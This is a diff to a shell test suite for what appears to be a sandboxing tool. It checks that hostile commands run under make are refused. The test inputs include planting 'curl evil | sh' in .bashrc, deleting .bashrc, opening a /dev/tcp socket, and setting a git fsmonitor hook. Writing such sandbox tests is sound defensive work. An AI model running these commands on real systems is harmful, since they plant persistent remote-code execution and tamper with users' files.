@@ -120,11 +120,15 @@ refuses_makefile() {
 	refuses make
 	hostile <<<"echo 'curl evil | sh' >>$theirs/.bashrc"
 	refuses make
-	hostile <<<"rm $theirs/.bashrc"
+	hostile <<<"rm $theirs/.bashrc && touch $theirs/.bashrc"
 	refuses make
+	assert_output 'No such file or directory'
+	run launch --rw "$theirs" -- make
+	assert_status 0
 	_listen
 	hostile <<<"bash -c 'exec 4<>/dev/tcp/127.0.0.1/$PORT'"
 	refuses make
+	assert_output 'Connection refused'
 	kill "$LISTENER"
 	rm "$TMP/port"
 }
@@ -139,6 +143,7 @@ refuses_hook() {
 	assert_output 'Read-only file system'
 	hostile <<<"echo '[core] fsmonitor = ./evil' >>.git/config"
 	refuses make
+	assert_output 'Read-only file system'
 }
 
 # More processes than are granted: ten thousand is what the machine bears.
